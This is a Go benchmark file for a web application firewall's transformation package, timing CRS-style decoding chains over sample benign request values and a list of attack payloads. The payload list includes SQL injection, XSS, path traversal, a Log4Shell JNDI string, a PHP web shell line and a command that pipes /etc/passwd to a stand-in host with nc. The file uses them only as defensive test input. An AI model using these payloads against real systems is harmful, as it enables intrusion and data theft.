package transform

import (
	"testing"
)

// benignValues are the values of a benign browser request: headers, cookies and arguments.
var benignValues = []string{
	"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
	"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
	"gzip, deflate, br",
	"en-US,en;q=0.5",
	"https://shop.example.com/catalog/shoes?page=2",
	"GA1.2.1234567890.1700000000",
	"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dGVzdHNpZ25hdHVyZQ",
	"d2f1c0a8-5b3e-4c7e-9a41-7f0e2b6c9d13",
	`{"q":"running shoes","page":2,"sort":"price_asc","filters":["size:42","color:blue"]}`,
	"running shoes",
	"price_asc",
	"42",
	"/catalog/shoes/running",
}

// attackValues are CRS-style attack payloads, encoded as they arrive.
var attackValues = []string{
	"1' UNION SELECT username, password FROM users--",
	"1%27%20OR%20%271%27%3D%271",
	"<script>alert(document.cookie)</script>",
	"%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
	"&#x3C;img src=x onerror=&#x61;lert(1)&#x3E;",
	`\u003csvg/onload=alert(1)\u003e`,
	"../../../../etc/passwd",
	"..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
	"; cat /etc/passwd | nc evil.example 4444",
	"${jndi:ldap://evil.example/a}",
	"%u0027%u0020or%u00201=1",
	"SELECT/*foo*/1/*bar*/FROM/**/dual",
	`<?php system($_GET["c"]); ?>`,
	`java.lang.Runtime.getRuntime().exec("id")`,
}

func benchFunc(b *testing.B, name string, values []string) {
	f, ok := Lookup(name)
	if !ok {
		b.Fatalf("Lookup(%q): not implemented", name)
	}
	b.ReportAllocs()
	for b.Loop() {
		for _, v := range values {
			_, _, _ = f(v)
		}
	}
}

// BenchmarkTransformations times each transformation CRS uses over all benign values (one op
// is the whole set) and over all attack payloads.
func BenchmarkTransformations(b *testing.B) {
	for _, name := range []string{
		"urlDecodeUni", "lowercase", "jsDecode", "htmlEntityDecode", "utf8toUnicode", "removeNulls",
		"cssDecode", "cmdLine", "removeWhitespace", "replaceComments", "normalizePath",
		"escapeSeqDecode", "compressWhitespace", "normalizePathWin", "base64Decode", "length",
		"removeCommentsChar",
	} {
		b.Run(name+"/benign", func(b *testing.B) { benchFunc(b, name, benignValues) })
		b.Run(name+"/attack", func(b *testing.B) { benchFunc(b, name, attackValues) })
	}
}

// BenchmarkCRSChains applies every distinct t: chain of CRS v4.25.0 to every value of the set
// (one op is all chains over all values: what the screen pays per request without sharing).
func BenchmarkCRSChains(b *testing.B) {
	lists, _ := crsChains(b)
	byKey := map[string]*Chain{}
	for _, l := range lists {
		c, err := Compile(l)
		if err != nil {
			b.Fatalf("Compile(%q): %v", l, err)
		}
		byKey[c.String()] = c
	}
	chains := make([]*Chain, 0, len(byKey))
	for _, c := range byKey {
		chains = append(chains, c)
	}
	for _, set := range []struct {
		name   string
		values []string
	}{{"benign", benignValues}, {"attack", attackValues}} {
		b.Run(set.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				for _, c := range chains {
					for _, v := range set.values {
						_ = c.Apply(v)
					}
				}
			}
			b.ReportMetric(float64(len(chains)), "chains")
		})
	}
}

// BenchmarkApplyTypical times Apply of CRS's most common chain on one benign value.
func BenchmarkApplyTypical(b *testing.B) {
	c, err := Compile([]string{"none", "utf8toUnicode", "urlDecodeUni", "htmlEntityDecode", "jsDecode", "cssDecode", "removeNulls"})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		_ = c.Apply(benignValues[1])
	}
}
